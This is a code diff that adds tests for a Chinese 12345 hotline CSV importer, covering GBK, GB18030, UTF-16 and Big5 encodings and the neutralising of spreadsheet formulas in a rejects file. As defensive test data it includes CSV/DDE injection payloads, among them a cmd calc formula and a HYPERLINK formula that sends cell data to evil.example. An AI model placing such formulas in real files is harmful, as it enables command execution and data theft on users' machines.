@@ -1,5 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import iconv from 'iconv-lite';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
@@ -93,6 +95,58 @@ describe.each(testTargets())('12345 import on $name', (target) => {
     expect(report).toMatchObject({ read: 120, imported: 118, rejected: 2 });
     expect(await stored('XL')).toBe(118);
     expect((await handle.db.select({ n: count() }).from(cases).where(isNotNull(cases.repeatOf)))[0]!.n).toBeGreaterThanOrEqual(0);
+  });
+
+  it('reads a GBK export as many 12345 systems write it, and no formula of a rejected row reaches the rejects file as written', async () => {
+    const file = fileURLToPath(new URL('./fixtures/orders-gbk.csv', import.meta.url));
+    const rejectsPath = join(dir, `gbk-${target.name}.rejects.csv`);
+    const report = await importOrders({ file, deps: deps(), reportedIn: '510100', rejectsPath });
+    expect(report).toMatchObject({ read: 6, imported: 2, rejected: 4 });
+    const [first] = await handle.db.select().from(cases).where(eq(cases.externalRef, '12345:GBK0001'));
+    expect(first).toMatchObject({ description: '市民来电反映:春熙路的垃圾桶满了三天没人清运', address: '成都市锦江区春熙路88号', reporterName: '王先生' });
+
+    const rejects = parse(readFileSync(rejectsPath), { bom: true, relax_column_count: true }) as string[][];
+    const row = (orderNo: string) => rejects.find((r) => r[1] === orderNo) ?? [];
+    // columns: row, order_no, reason, then the file's own: order_no, time, description, address, lon, lat, category, name, phone
+    expect(row('GBK0003')[5]).toBe("'=cmd|' /C calc'!A0");
+    expect(row('GBK0004')[5]).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"点这里查看")`);
+    expect(row('GBK0005')[10]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(row('GBK0005')[11]).toBe("'+1+1");
+    expect(row('GBK0006')[4]).toBe("'\t下午三点");
+    expect(row('GBK0006')[5]).toBe("'-2+3+cmd|' /C calc'!A0");
+    // No cell of the file, header included, starts as a formula would.
+    for (const cell of rejects.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('reads UTF-8 without a BOM and GB18030 beyond GBK; refuses another encoding by name, storing nothing', async () => {
+    const text = (prefix: string, name: string) =>
+      `工单编号,受理时间,诉求内容,事发地址,经度,纬度,来电人\r\n${prefix}1,2026-11-21 09:15,建设路的垃圾桶满了,成都市成华区建设路5号,104.105000,30.670000,${name}\r\n`;
+    const plain = join(dir, 'utf8-no-bom.csv');
+    writeFileSync(plain, text('U8N', '李女士'));
+    expect(await importOrders({ file: plain, deps: deps(), reportedIn: '510100', rejectsPath: `${plain}.rejects.csv` })).toMatchObject({ imported: 1 });
+    const wide = join(dir, 'gb18030.csv');
+    writeFileSync(wide, iconv.encode(text('G18', '𠮷先生'), 'gb18030'));
+    expect(await importOrders({ file: wide, deps: deps(), reportedIn: '510100', rejectsPath: `${wide}.rejects.csv` })).toMatchObject({ imported: 1 });
+    expect((await handle.db.select().from(cases).where(eq(cases.externalRef, '12345:G181')))[0]?.reporterName).toBe('𠮷先生');
+
+    const utf16 = join(dir, 'utf16.csv');
+    writeFileSync(utf16, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text('U16', '王先生'), 'utf16le')]));
+    await expect(importOrders({ file: utf16, deps: deps(), reportedIn: '510100', rejectsPath: `${utf16}.rejects.csv` })).rejects.toThrow(/文件编码是 UTF-16LE/);
+    const big5 = join(dir, 'big5.csv');
+    writeFileSync(
+      big5,
+      iconv.encode(
+        '工單編號,受理時間,訴求內容,事發地址\r\nB51,2026-11-21 09:15,市民來電反映:春熙路的垃圾桶滿了三天沒人清運,成都市錦江區春熙路88號\r\n',
+        'big5',
+      ),
+    );
+    await expect(importOrders({ file: big5, deps: deps(), reportedIn: '510100', rejectsPath: `${big5}.rejects.csv` })).rejects.toThrow(/文件编码是 Big5/);
+    // Valid UTF-8 at the start, then bytes that are not: stopped with a message, not read as mojibake.
+    const mixed = join(dir, 'mixed.csv');
+    writeFileSync(mixed, Buffer.concat([Buffer.from(text('MIX', '王先生')), Buffer.alloc(70_000, 0x61), iconv.encode('张先生\r\n', 'gbk')]));
+    await expect(importOrders({ file: mixed, deps: deps(), reportedIn: '510100', rejectsPath: `${mixed}.rejects.csv` })).rejects.toThrow(/不是有效的 UTF-8/);
+    expect(await stored('U16')).toBe(0);
+    expect(await stored('B51')).toBe(0);
   });
 
   it('refuses a file without the needed columns, in Chinese, storing nothing', async () => {
